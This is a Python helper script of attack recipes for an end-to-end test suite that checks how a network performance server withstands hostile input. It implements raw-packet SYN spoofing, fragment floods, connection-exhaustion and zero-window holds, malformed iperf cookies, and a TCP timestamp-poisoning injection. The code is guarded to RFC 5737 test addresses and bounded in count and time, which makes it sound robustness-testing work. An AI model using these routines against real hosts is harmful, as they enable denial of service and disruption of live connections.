#!/usr/bin/python3
"""
Attack recipes for test/e2e/hostile.e2e.test.ts (design.md section 7). Run INSIDE a test's own network
namespace with /usr/bin/python3; standard library only (plain sockets, raw IPv4 sockets with IP_HDRINCL,
AF_PACKET for sniffing), so it also runs without scapy.

Network rule: every address used here must be in an RFC 5737 block; `rfc5737()` refuses anything else,
spoofed sources included. Every loop is bounded in count and in time (--deadline seconds of wall clock).

Subcommands print one line `RESULT key=value ...` at the end (the test parses it); `silent` prints
`READY opened=N` once its connections are open and then holds them until killed or --hold seconds pass.
"""
import argparse
import ipaddress
import os
import random
import resource
import select
import socket
import struct
import sys
import time

RFC5737 = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")]


def rfc5737(a):
    ip = ipaddress.ip_address(a)
    if not any(ip in n for n in RFC5737):
        sys.exit(f"attack.py: {a} is not an RFC 5737 address; refusing")
    return a


def out(line):
    print(line, flush=True)


# ---- raw IPv4 ---------------------------------------------------------------------------------------------
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ipv4(src, dst, proto, payload, ident=None, frag=0, ttl=64, total_len=None):
    """frag: the 16-bit flags+offset field (0x2000 = MF, offset in 8-byte units)."""
    ident = random.randrange(1, 0xFFFF) if ident is None else ident
    tl = 20 + len(payload) if total_len is None else total_len
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, tl, ident, frag, ttl, proto, 0,
                    socket.inet_aton(rfc5737(src)), socket.inet_aton(rfc5737(dst)))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def tcp(src, dst, sport, dport, seq, ack, flags, win=65535, options=b"", payload=b""):
    off = (20 + len(options)) // 4
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off << 4, flags, win, 0, 0) + options
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(h) + len(payload))
    c = csum(pseudo + h + payload)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload


def udp(src, dst, sport, dport, payload):
    h = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(h) + len(payload))
    c = csum(pseudo + h + payload) or 0xFFFF
    return h[:6] + struct.pack("!H", c) + payload


def icmp_echo(ident, seq, data):
    h = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + data
    return h[:2] + struct.pack("!H", csum(h)) + h[4:]


FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32


class Raw:
    """A raw IPv4 socket (IPPROTO_RAW implies IP_HDRINCL): the kernel routes and frames what we build."""

    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, pkt, dst):
        self.s.sendto(pkt, (rfc5737(dst), 0))


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(n, hard), hard))


# ---- a: silent connections --------------------------------------------------------------------------------
def cmd_silent(a):
    """Open --count TCP connections (from --src) that each send --payload-hex and then go silent; hold them."""
    raise_nofile(a.count + 64)
    t_end = time.monotonic() + a.deadline
    data = bytes.fromhex(a.payload_hex)
    pending, opened, failed = {}, [], 0
    todo = a.count
    while (todo > 0 or pending) and time.monotonic() < t_end:
        # keep at most --window connects in flight (our server's SYN backlog is bounded)
        while todo > 0 and len(pending) < a.window:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((rfc5737(a.src), 0))
            s.setblocking(False)
            s.connect_ex((rfc5737(a.dst), a.port))
            pending[s.fileno()] = (s, time.monotonic())
            todo -= 1
        poller = select.poll()  # select() stops at fd 1024
        for fd in pending:
            poller.register(fd, select.POLLOUT)
        w = [pending[fd][0] for fd, _ in poller.poll(200)]
        now = time.monotonic()
        for s in w:
            del pending[s.fileno()]
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                try:
                    s.send(data)
                    opened.append(s)
                except OSError:
                    failed += 1
                    s.close()
            else:
                failed += 1
                s.close()
        for fd, (s, t0) in list(pending.items()):
            if now - t0 > a.connect_timeout:
                del pending[fd]
                failed += 1
                s.close()
    for s, _ in pending.values():
        s.close()
    out(f"READY opened={len(opened)} failed={failed} unopened={todo}")
    # hold, silent, never reading; bounded by --hold
    hold_end = time.monotonic() + a.hold
    while time.monotonic() < hold_end:
        time.sleep(0.2)
    out("RESULT held=done")


# ---- b: garbage iperf3 cookies ----------------------------------------------------------------------------
def cmd_cookies(a):
    t_end = time.monotonic() + a.deadline
    ok = failed = 0
    rnd = random.Random(5201)
    for _ in range(a.count):
        if time.monotonic() > t_end:
            break
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(a.connect_timeout)
        try:
            s.bind((rfc5737(a.src), 0))
            s.connect((rfc5737(a.dst), a.port))
            if ok % 2 == 0:  # cookie-shaped: 36 of iperf3's cookie characters and a NUL, but no test follows
                s.sendall(bytes(rnd.choice(b"abcdefghijklmnopqrstuvwxyz234567") for _ in range(a.len - 1)) + b"\0")
            else:  # plain junk
                s.sendall(bytes(rnd.randrange(33, 127) for _ in range(a.len)))
            ok += 1
        except OSError:
            failed += 1
        finally:
            s.close()
    out(f"RESULT sent={ok} failed={failed}")


# ---- c: SYNs from on-link sources that never answer ARP ---------------------------------------------------
def spoof_sources(a):
    lo, hi = (int(x) for x in a.src_range.split("-"))
    net = a.src_net.rsplit(".", 1)[0]
    return [rfc5737(f"{net}.{i}") for i in range(lo, hi + 1)]


def cmd_synspoof(a):
    raw = Raw()
    srcs = spoof_sources(a)
    t_end = time.monotonic() + a.deadline
    sent = 0
    for i in range(a.count):
        if time.monotonic() > t_end:
            break
        src = srcs[i % len(srcs)]
        sport = 20000 + i
        opts = struct.pack("!BBH", 2, 4, 1460)
        raw.send(ipv4(src, a.dst, 6, tcp(src, a.dst, sport, a.port, random.getrandbits(32), 0, a.flags, options=opts)), a.dst)
        sent += 1
        if a.gap_ms > 0:
            time.sleep(a.gap_ms / 1000)
    out(f"RESULT sent={sent}")


# ---- d, h: UDP datagrams with a given payload, from a (spoofed) source -----------------------------------
def iperf2_udp_payload(template_hex, flags, amount, rate, length):
    """An iperf 2.1.8 UDP datagram (iperf-wire.md B.1) built from a captured first datagram."""
    b = bytearray(bytes.fromhex(template_hex))
    struct.pack_into("!I", b, 16, flags)  # settings header flags
    struct.pack_into("!i", b, 16 + 20, amount)  # mAmount: negative = time in 10 ms
    struct.pack_into("!I", b, 16 + 48, rate)  # lRate
    while len(b) < length:  # the capture is cut by its snaplen: go on with the digit pattern (from offset 160)
        b.append(0x30 + (len(b) - 160) % 10 if len(b) >= 160 else 0)
    return bytes(b[:length])


def cmd_udpsend(a):
    payload = iperf2_udp_payload(open(a.template).read().strip(), int(a.iperf_flags, 0), a.amount, a.rate, a.length)
    raw = Raw()
    sent = 0
    for i in range(a.count):
        sport = a.sport + i
        raw.send(ipv4(a.src, a.dst, 17, udp(a.src, a.dst, sport, a.port, payload)), a.dst)
        sent += 1
        if a.gap_ms > 0:
            time.sleep(a.gap_ms / 1000)
    out(f"RESULT sent={sent}")


# ---- e: ICMP echo and a SYN from a broadcast source -------------------------------------------------------
def cmd_bcastsrc(a):
    raw = Raw()
    for i in range(a.count):
        raw.send(ipv4(a.src, a.dst, 1, icmp_echo(0x4D50, i + 1, b"hostile-broadcast-source")), a.dst)
        raw.send(ipv4(a.src, a.dst, 6, tcp(a.src, a.dst, 40000 + i, a.port, random.getrandbits(32), 0, SYN)), a.dst)
        time.sleep(0.05)
    out(f"RESULT sent={2 * a.count}")


# ---- h: incomplete and overlapping fragments --------------------------------------------------------------
def cmd_frags(a):
    raw = Raw()
    sent = 0
    if a.mode == "incomplete":
        # first fragments (MF, offset 0, 1480 bytes) of --count different 64 KiB ICMP datagrams; the rest never comes
        body = icmp_echo(0x4D51, 1, bytes(1472))
        for i in range(a.count):
            raw.send(ipv4(a.src, a.dst, 1, body, ident=0x1000 + i, frag=0x2000, total_len=20 + len(body)), a.dst)
            sent += 1
    else:
        # overlapping: [0, 1480) with MF, then [8, 1488) as the last fragment: bytes 8..1479 arrive twice
        for i in range(a.count):
            data = icmp_echo(0x4D52, i + 1, bytes(1472))
            ident = 0x2000 + i
            raw.send(ipv4(a.src, a.dst, 1, data, ident=ident, frag=0x2000), a.dst)
            raw.send(ipv4(a.src, a.dst, 1, bytes(1480), ident=ident, frag=1), a.dst)
            sent += 2
    out(f"RESULT sent={sent}")


# ---- f: TS.Recent poisoning: a SYN at RCV.NXT with TSval + 2^30 on a live connection ----------------------
ETH_P_ALL = 0x0003  # outgoing frames reach only ETH_P_ALL packet sockets


def parse_ts(opts):
    i = 0
    while i < len(opts):
        k = opts[i]
        if k == 0:
            break
        if k == 1:
            i += 1
            continue
        if i + 1 >= len(opts):
            break
        n = opts[i + 1]
        if k == 8 and n == 10:
            return struct.unpack("!II", opts[i + 2:i + 10])
        i += max(n, 2)
    return None


def cmd_tspoison(a):
    """A real Linux TCP connection (the victim) to --dst:--port sends an iperf 2 header and some data, goes
    quiet; the last segments seen on --iface (AF_PACKET) give SND.NXT and the TSvals; a SYN at that sequence
    with TSval + 2^30 is injected with a raw socket; then the victim sends --after bytes more, and we report
    whether they were all acknowledged (SIOCOUTQ drains to 0) and whether a RST came from the server."""
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind((a.iface, 0))
    sniff.setblocking(False)
    v = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    v.settimeout(2)
    v.connect((rfc5737(a.dst), a.port))
    sport = v.getsockname()[1]
    hdr = bytes.fromhex(a.header_hex)
    v.sendall(hdr + bytes(a.before))
    state = {"snd_nxt": None, "tsval": None, "tsecr": None, "rst": 0, "ack": None}

    def drain(t):
        end = time.monotonic() + t
        while time.monotonic() < end:
            r, _, _ = select.select([sniff], [], [], 0.05)
            if not r:
                continue
            while True:
                try:
                    f = sniff.recv(65535)
                except BlockingIOError:
                    break
                if f[12:14] != b"\x08\x00":
                    continue
                ip = f[14:]
                if len(ip) < 40 or ip[9] != 6:
                    continue
                ihl = (ip[0] & 15) * 4
                t_ = ip[ihl:]
                src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
                sp, dp, seq, ack = struct.unpack("!HHII", t_[:12])
                off = (t_[12] >> 4) * 4
                fl = t_[13]
                ts = parse_ts(t_[20:off])
                if src == a.dst and dp == sport:
                    if fl & RST:
                        state["rst"] += 1
                    if ts:
                        state["tsecr"] = ts[0]
                    if fl & ACK:
                        state["snd_nxt"] = ack  # the server's RCV.NXT (all our data is acknowledged when we read it)
                elif dst == a.dst and sp == sport:
                    if ts:
                        state["tsval"] = ts[0]

    def outq():
        import fcntl
        return struct.unpack("i", fcntl.ioctl(v.fileno(), 0x5411, b"\0\0\0\0"))[0]  # SIOCOUTQ

    # wait until everything so far is acknowledged and the connection is quiet
    t_end = time.monotonic() + 5
    while time.monotonic() < t_end and outq() > 0:
        drain(0.05)
    drain(0.3)
    if state["snd_nxt"] is None or state["tsval"] is None:
        out("RESULT error=no-timestamps-seen")
        return
    raw = Raw()
    tsopt = struct.pack("!BBBBII", 1, 1, 8, 10, (state["tsval"] + (1 << 30)) & 0xFFFFFFFF, state["tsecr"] or 0)
    syn = tcp(a.src, a.dst, sport, a.port, state["snd_nxt"], 0, SYN, options=struct.pack("!BBH", 2, 4, 1460) + tsopt)
    raw.send(ipv4(a.src, a.dst, 6, syn), a.dst)
    drain(0.3)
    rst_after_syn = state["rst"]
    sent_after = 0
    err = ""
    try:
        v.sendall(bytes(a.after))
        sent_after = a.after
    except OSError as e:
        err = type(e).__name__
    t_end = time.monotonic() + a.deadline
    q = outq()
    while time.monotonic() < t_end:
        drain(0.05)
        q = outq()
        if q == 0:
            break
    out(f"RESULT injected=1 snd_nxt={state['snd_nxt']} tsval={state['tsval']} rst={rst_after_syn} rst_total={state['rst']} "
        f"sent_after={sent_after} unacked={q} err={err or 'none'}")
    v.close()


# ---- g: zero-window peers ---------------------------------------------------------------------------------
def cmd_zerowin(a):
    """--count connections from --src that each send an iperf 2 header (-R: the server sends) and never read;
    a tiny receive buffer makes the window close at once. Held until killed or --hold seconds pass."""
    raise_nofile(a.count + 64)
    hdr = bytes.fromhex(a.header_hex)
    socks = []
    t_end = time.monotonic() + a.deadline
    for _ in range(a.count):
        if time.monotonic() > t_end:
            break
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the kernel rounds up to its minimum
        s.bind((rfc5737(a.src), 0))
        s.settimeout(a.connect_timeout)
        try:
            s.connect((rfc5737(a.dst), a.port))
            s.sendall(hdr)
            socks.append(s)
        except OSError:
            s.close()
    out(f"READY opened={len(socks)}")
    hold_end = time.monotonic() + a.hold
    while time.monotonic() < hold_end:
        time.sleep(0.2)
    out("RESULT held=done")


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)

    def common(sp, port):
        sp.add_argument("--dst", default="198.51.100.2")
        sp.add_argument("--src", default="198.51.100.1")
        sp.add_argument("--port", type=int, default=port)
        sp.add_argument("--count", type=int, default=1)
        sp.add_argument("--deadline", type=float, default=20.0)
        sp.add_argument("--connect-timeout", type=float, default=3.0)

    sp = sub.add_parser("silent")
    common(sp, 5001)
    sp.add_argument("--payload-hex", default="00000000")
    sp.add_argument("--window", type=int, default=64)
    sp.add_argument("--hold", type=float, default=60.0)
    sp.set_defaults(fn=cmd_silent)

    sp = sub.add_parser("cookies")
    common(sp, 5201)
    sp.add_argument("--len", type=int, default=37)
    sp.set_defaults(fn=cmd_cookies)

    sp = sub.add_parser("synspoof")
    common(sp, 5001)
    sp.add_argument("--src-net", default="198.51.100.0")
    sp.add_argument("--src-range", default="100-249")
    sp.add_argument("--flags", type=int, default=SYN)
    sp.add_argument("--gap-ms", type=float, default=0)
    sp.set_defaults(fn=cmd_synspoof)

    sp = sub.add_parser("udpsend")
    common(sp, 5001)
    sp.add_argument("--template", required=True)
    sp.add_argument("--iperf-flags", default="0x48010098")
    sp.add_argument("--amount", type=int, default=-100)
    sp.add_argument("--rate", type=int, default=1 << 20)
    sp.add_argument("--length", type=int, default=1470)
    sp.add_argument("--sport", type=int, default=40000)
    sp.add_argument("--gap-ms", type=float, default=0)
    sp.set_defaults(fn=cmd_udpsend)

    sp = sub.add_parser("bcastsrc")
    common(sp, 5001)
    sp.set_defaults(fn=cmd_bcastsrc)

    sp = sub.add_parser("frags")
    common(sp, 0)
    sp.add_argument("--mode", choices=["incomplete", "overlap"], required=True)
    sp.set_defaults(fn=cmd_frags)

    sp = sub.add_parser("tspoison")
    common(sp, 5001)
    sp.add_argument("--iface", required=True)
    sp.add_argument("--header-hex", required=True)
    sp.add_argument("--before", type=int, default=20000)
    sp.add_argument("--after", type=int, default=200000)
    sp.set_defaults(fn=cmd_tspoison)

    sp = sub.add_parser("zerowin")
    common(sp, 5001)
    sp.add_argument("--header-hex", required=True)
    sp.add_argument("--hold", type=float, default=60.0)
    sp.set_defaults(fn=cmd_zerowin)

    a = p.parse_args()
    for k in ("dst", "src"):
        rfc5737(getattr(a, k))
    a.count = max(0, min(a.count, 5000))  # bounded whatever the caller asks
    a.deadline = min(a.deadline, 120.0)
    if hasattr(a, "hold"):
        a.hold = min(a.hold, 120.0)
    a.fn(a)


if __name__ == "__main__":
    main()
